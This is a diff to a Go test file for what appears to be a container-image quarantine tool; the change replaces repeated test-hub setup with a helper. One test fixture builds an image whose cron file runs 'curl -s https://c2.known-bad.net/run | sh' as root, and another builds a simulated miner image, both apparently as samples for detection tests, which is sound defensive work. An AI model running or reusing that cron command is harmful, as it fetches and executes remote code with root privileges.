@@ -68,11 +68,7 @@ func TestExceptionFromRefusalToExpiry(t *testing.T) {
 			if name == "postgres" {
 				settings = append(settings, "LAZARET_DATABASE_URL="+newPostgres(t))
 			}
-			hub, err := testhub.Start(testhub.Config{})
-			if err != nil {
-				t.Fatal(err)
-			}
-			defer hub.Close()
+			hub := startHub(t)
 			img, err := testimage.Build(testimage.Miner("excepted", 1<<20))
 			if err != nil {
 				t.Fatal(err)
@@ -143,11 +139,7 @@ func TestExceptionFromRefusalToExpiry(t *testing.T) {
 
 // A feed that comes to know what was given out: who has it is listed, and nothing is fetched to find out.
 func TestExposureAfterAFeedChanged(t *testing.T) {
-	hub, err := testhub.Start(testhub.Config{})
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer hub.Close()
+	hub := startHub(t)
 	img, err := testimage.Build(testimage.Spec{Layers: []testimage.Layer{{Files: []testimage.File{
 		{Path: "etc/cron.d/job", Body: []byte("* * * * * root curl -s https://c2.known-bad.net/run | sh\n")},
 	}}}})
@@ -192,11 +184,7 @@ func TestExposureAfterAFeedChanged(t *testing.T) {
 // Put in quarantine; a developer asks with the refusal's ID; approved at the command line; passes
 // within 2 s, and nothing is fetched for it.
 func TestRequestFromRefusalToPull(t *testing.T) {
-	hub, err := testhub.Start(testhub.Config{})
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer hub.Close()
+	hub := startHub(t)
 	spec := testimage.Clean("asked for", 64<<10)
 	spec.Layers[1].Raw = []byte("no archive of any kind")
 	img, err := testimage.Build(spec)
